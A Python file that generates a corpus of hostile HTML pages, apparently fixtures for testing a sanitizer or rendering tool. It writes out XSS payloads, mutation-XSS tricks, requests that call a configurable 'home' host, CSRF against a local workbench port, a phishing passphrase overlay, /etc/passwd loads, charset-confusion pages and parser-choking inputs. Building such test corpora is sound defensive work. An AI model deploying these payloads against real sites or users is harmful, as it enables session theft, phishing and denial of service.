"""A museum of hostile pages, written by us: each tries, in one way, to run, to load, to call home, to keep something, to open or move a window, to frighten, or
to choke whoever shows it. {home} is where it calls; whatever asks there is caught. Every page says MARKED somewhere in plain words, which must be shown."""

from __future__ import annotations

import base64
from collections.abc import Iterator

MARKED = "The well was closed"
RUN = "window.name='owned';document.title='owned';try{{localStorage.setItem('owned','1');document.cookie='owned=1'}}catch(e){{}};fetch('{home}/ran');new Image().src='{home}/ran';alert('owned')"
ENCODED = base64.b64encode(b"<script>alert(1)</script>").decode()

BODIES: dict[str, str] = {
    # -- code in every place
    "script": "<script>" + RUN + "</script>",
    "script_src": "<script src='{home}/a.js'></script><script src='//127.0.0.1:{port}/b.js' async></script>",
    "script_module": "<script type=module>import '{home}/m.js'</script><script type=importmap>{{\"imports\":{{\"a\":\"{home}/a\"}}}}</script>",
    "script_never_closed": "<script>" + RUN,
    "script_in_comment_that_ends_early": "<!--><script>" + RUN + "</script>-->",
    "script_in_cdata": "<svg><![CDATA[<script>" + RUN + "</script>]]></svg>",
    "script_in_textarea": "<textarea></textarea><script>" + RUN + "</script></textarea>",
    "script_in_title": "<title></title><script>" + RUN + "</script></title>",
    "script_in_xmp": "<xmp></xmp><script>" + RUN + "</script></xmp>",
    "script_in_noscript": "<noscript><p title='</noscript><img src=x onerror=\"" + RUN + "\">'></noscript>",
    "script_in_template": "<template><script>" + RUN + "</script></template><template shadowrootmode=open><img src={home}/t onerror=\"" + RUN + "\"></template>",
    "script_in_iframe_srcdoc": "<iframe srcdoc=\"<script>parent.postMessage('owned','*');top.location='{home}/top'</script>\"></iframe>",
    "script_split_by_zero": "<scr\0ipt>" + RUN + "</scr\0ipt><img src=x one\0rror=\"" + RUN + "\">",
    "handler_on_image": "<img src=x onerror=\"" + RUN + "\"><img src={home}/i.png onload=1>",
    "handler_on_body": "<body onload=\"" + RUN + "\" onpageshow=\"" + RUN + "\" onhashchange=1><p>",
    "handler_on_details": "<details open ontoggle=\"" + RUN + "\"><summary>x</summary></details>",
    "handler_on_input_autofocus": "<input autofocus onfocus=\"" + RUN + "\"><select autofocus onfocus=\"" + RUN + "\"></select>",
    "handler_on_animation": "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart=\"" + RUN + "\">x</p>",
    "handler_on_video": "<video src={home}/v.mp4 onerror=\"" + RUN + "\" autoplay poster={home}/p.png><source src={home}/s.mp4></video><audio src={home}/a.mp3 autoplay></audio>",
    "handler_on_marquee": "<marquee onstart=\"" + RUN + "\">x</marquee><bgsound src={home}/b.wav>",
    "handler_in_capitals_and_slashes": "<IMG/SRC='x'/ONERROR='" + RUN.replace("'", "&#39;") + "'><svg/onload=\"" + RUN + "\">",
    "handler_without_quotes_over_lines": "<img src=x\nonerror\n=\n\"" + RUN + "\"\n>",
    "address_javascript": "<a href=\"javascript:" + RUN + "\" id=go>click me</a><form action=\"javascript:" + RUN + "\"><button>press me</button></form>",
    "address_javascript_hidden": "<a href=\"jav&#x09;ascript:" + RUN + "\">a</a><a href=\"&#14; java\nscript:" + RUN + "\">b</a><a href='vbscript:x'>c</a>",
    "address_data_html": "<a href='data:text/html;base64," + ENCODED + "'>a</a><iframe src='data:text/html;base64," + ENCODED + "'></iframe><object data='data:text/html;base64," + ENCODED + "'></object>",
    "address_blob_and_file": "<iframe src='file:///etc/passwd'></iframe><img src='file:///etc/passwd'><iframe src='view-source:{home}'></iframe><a href='blob:{home}/x'>x</a>",
    # -- other languages in the page
    "svg_script": "<svg xmlns='http://www.w3.org/2000/svg'><script>" + RUN + "</script><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "svg_animate_to_javascript": "<svg><a><animate attributeName=href values='javascript:alert(1)'/><text y=20>click me</text></a><set attributeName=onmouseover to='alert(1)'/></svg>",
    "svg_use_and_image": "<svg><use href='{home}/s.svg#x'/><image href='{home}/i.png'/><feImage href='{home}/f.png'/><foreignObject><iframe src='{home}/fo'></iframe></foreignObject></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></mglyph></table></mtext><maction actiontype='statusline#{home}' xlink:href='javascript:alert(1)'>x</maction></math>",
    "xslt_and_xml": "<?xml-stylesheet href='{home}/x.xsl' type='text/xsl'?><xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>",
    "embed_and_object": "<embed src='{home}/e.swf'><object data='{home}/o' type='text/html'><param name=movie value='{home}/m'></object><applet code='{home}/a.class'></applet>",
    "mutation_by_noscript_in_style": "<svg></p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "mutation_by_form_in_table": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src=x>'>",
    "mutation_by_nested_select": "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src=x onerror=alert(1)>'>",
    "mutation_by_backticks_and_entities": "<img alt='`<img src=x onerror=alert(1)>`'><p title='&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
    # -- calling home
    "meta_refresh": "<meta http-equiv=refresh content='0;url={home}/refresh'><META HTTP-EQUIV=\"Refresh\" CONTENT=\"0; URL=javascript:alert(1)\">",
    "meta_csp_and_cookie": "<meta http-equiv=Content-Security-Policy content='default-src *'><meta http-equiv=Set-Cookie content='owned=1'><meta name=referrer content=unsafe-url>",
    "base": "<base href='{home}/' target=_top><img src=relative.png><a href=go>go</a>",
    "link_prefetch": "<link rel=prefetch href='{home}/p'><link rel=dns-prefetch href='//dns.invalid'><link rel=preconnect href='{home}'><link rel=prerender href='{home}/r'><link rel=preload as=image href='{home}/l'><link rel=modulepreload href='{home}/m'>",
    "link_stylesheet_icon_manifest": "<link rel=stylesheet href='{home}/c.css'><link rel=icon href='{home}/f.ico'><link rel=manifest href='{home}/m.json'><link rel=import href='{home}/i'>",
    "speculation_rules": "<script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"{home}/s\"]}}],\"prerender\":[{{\"source\":\"list\",\"urls\":[\"{home}/s\"]}}]}}</script>",
    "css_url_and_import": "<style>@import '{home}/i.css';body{{background:url({home}/bg.png)}}@font-face{{font-family:x;src:url({home}/f.woff)}}p{{font-family:x;cursor:url({home}/c.cur),auto}}</style>",
    "css_in_attributes": "<p style=\"background:url('{home}/a.png');list-style:url({home}/b.png);behavior:url({home}/c.htc);-moz-binding:url({home}/d.xml);width:expression(alert(1))\">x</p><table background={home}/t.png><tr><td background={home}/d.png>x</table>",
    "css_that_reads_the_page": "<style>input[value^='a']{{background:url({home}/leak?a)}}:visited{{background:url({home}/v)}}</style><input value=abc>",
    "image_srcset_and_picture": "<img srcset='{home}/1.png 1x, {home}/2.png 2x' sizes=100vw><picture><source srcset='{home}/3.webp'><img src='{home}/4.png'></picture><img lowsrc={home}/5 dynsrc={home}/6>",
    "image_lazy_and_map": "<img loading=lazy src={home}/lazy.png usemap=#m><map name=m><area shape=default href={home}/area ping={home}/ping></map><input type=image src={home}/in.png>",
    "image_data_svg": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='{home}/x.png'/></svg>\">",
    "anchor_ping_and_download": "<a href='{home}/go' ping='{home}/ping' download target=_top id=go>click me</a>",
    "form_that_sends_itself": "<form action='{home}/form' method=post target=_top id=f><input name=a value=b><button autofocus>press me</button></form><script>f.submit()</script>",
    "iframe_of_another": "<iframe src='{home}/frame'></iframe><frameset><frame src='{home}/fr'></frameset><portal src='{home}/portal'></portal><fencedframe></fencedframe>",
    "iframe_of_the_workbench": "<iframe src='http://localhost:{own}/sources'></iframe><img src='http://localhost:{own}/undo?t=1'><form action='http://localhost:{own}/undo' method=post><button>x</button></form>",
    "websocket_and_beacon": "<script>new WebSocket('ws://127.0.0.1:{port}/ws');navigator.sendBeacon('{home}/beacon','x');new EventSource('{home}/sse');new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{port}'}}]}}).createDataChannel('x')</script>",
    # -- windows, storage, workers, fright
    "popup_and_dialogs": "<script>open('{home}/popup');alert(1);confirm(1);prompt(1);print();onbeforeunload=()=>'stay'</script><dialog open>Your computer is locked</dialog>",
    "top_navigation": "<script>top.location='{home}/top';parent.location.href='{home}/p';window.opener&&(opener.location='{home}/o')</script><a target=_top href='{home}/t' id=go>click me</a>",
    "window_name_and_message": "<script>window.name='owned';parent.postMessage({{type:'htmx',html:'<img src=x>'}},'*');top.postMessage('owned','*')</script>",
    "service_worker_and_storage": "<script>navigator.serviceWorker.register('/sw.js');localStorage.owned=1;sessionStorage.owned=1;indexedDB.open('owned');caches.open('owned');document.cookie='owned=1'</script>",
    "worker_and_wasm": "<script>new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));new SharedWorker('{home}/w.js');WebAssembly.compile(new Uint8Array([0,97,115,109]))</script>",
    "permissions": "<script>navigator.geolocation.getCurrentPosition(x=>x);navigator.mediaDevices&&navigator.mediaDevices.getUserMedia({{video:1}});Notification.requestPermission();document.documentElement.requestFullscreen()</script>",
    "clobbering": "<form id=page><input name=children></form><img name=getElementById><a id=document href='{home}/c'></a><div id=main></div><div id=adding data-key=a hx-get='{home}/hx' hx-trigger=load></div>",
    "htmx_attributes": "<div hx-get='{home}/hx' hx-trigger='load'></div><div data-hx-get='{home}/hx2' data-hx-trigger=load hx-on:load='alert(1)'></div><a href=/publish hx-boost=true>x</a>",
    "covers_the_page": "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Session expired. <input type=password placeholder=Passphrase></div>",
    "imitates_the_workbench": "<header class=top><nav><ul><li><a href='{home}/phish'>Overview</a></li></ul></nav></header><button data-key=a formaction='{home}/steal'>Accept</button>",
    # -- letters that deceive
    "turned_letters": "<p>\u202e)evol dellac( exe.txt\u202c \u2066x\u2069 \u200f\u200e</p><bdo dir=rtl>desrever</bdo><p dir=rtl>\u061c</p>",
    "combining_storm": "<p>" + "Z" + "\u0334\u0335\u0321\u0322\u033c\u0353" * 2000 + "</p>",
    "entities_without_end": "<p>" + "&amp" * 3000 + "&#x41" * 2000 + "&#0;&#x110000;&#xd800;&notit;" + "</p>",
    # -- what chokes
    "deep_nesting": "<div>" * 60_000 + "deep" + "</div>" * 10,
    "deep_tables": "<table><tr><td>" * 5_000,
    "formatting_explosion": "<b><i><u><font color=red>" * 2_000 + "<p>" * 300,
    "a_million_attributes": "<p " + " ".join(f"a{i}=x" for i in range(100_000)) + ">x</p>",
    "attribute_of_5_mb": "<p title='" + "a" * 5_000_000 + "'>x</p>",
    "tag_never_closed": "<p " + "x" * 200_000,
    "a_hundred_thousand_elements": "<p>x" * 100_000,
}  # fmt: skip


CHOKING = {
    "deep_nesting", "deep_tables", "formatting_explosion", "a_million_attributes", "attribute_of_5_mb", "tag_never_closed", "a_hundred_thousand_elements", "combining_storm",
    "entities_without_end",
}  # fmt: skip


def pages(home: str, port: int, own: int) -> Iterator[tuple[str, bytes]]:
    """(name, bytes) of every exhibit, calling at `home`; `own` is the port of the workbench."""
    for name, body in BODIES.items():
        filled = body.format(home=home, port=port, own=own) if "{" in body else body
        yield (
            name,
            f"<html><head><meta charset=utf-8><title>{name}</title></head><body><p>{MARKED} on 3 May 2023, the board of {name} said.</p>{filled}</body></html>".encode(
                "utf-8", "surrogatepass"
            ),
        )
    yield from _encoded(home)


def _encoded(home: str) -> Iterator[tuple[str, bytes]]:
    """Pages whose bytes mean one thing to who cleans them and another to who shows them."""
    shown = f"<p>{MARKED} on 3 May 2023, the board said.</p>"
    utf7 = "+ADw-script+AD4-fetch('" + home + "/utf7');alert(1)+ADw-/script+AD4-"
    yield "charset_utf7", f"<html><head><meta charset=utf-7></head><body>{shown}{utf7}</body></html>".encode()
    yield "charset_utf16_without_mark", f"<html><body>{shown}<script>fetch('{home}/u16')</script></body></html>".encode("utf-16-le")
    yield (
        "charset_changes_midway",
        f"<html><head><meta charset=windows-1252></head><body>{shown}".encode()
        + b"\xbcscript\xbealert(1)\xbc/script\xbe<meta charset=us-ascii></body></html>",
    )
    yield (
        "charset_iso_2022_jp",
        b"<html><head><meta charset=iso-2022-jp></head><body>"
        + shown.encode()
        + b'<img alt="\x1b$B" src=x onerror="fetch(\''
        + home.encode()
        + b"/jp')\x1b(B\"></body></html>",
    )
    yield (
        "overlong_utf8",
        b"<html><meta charset=utf-8><body>" + shown.encode() + b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe</body></html>",
    )
    yield "html_called_text_inside", f"{shown}<!doctype html><script>fetch('{home}/sniffed')</script>".encode()
    yield (
        "gif_that_is_a_page",
        b"<html><body>" + shown.encode() + b"<!--GIF89a--><script>fetch('" + home.encode() + b"/gif')</script></body></html>",
    )
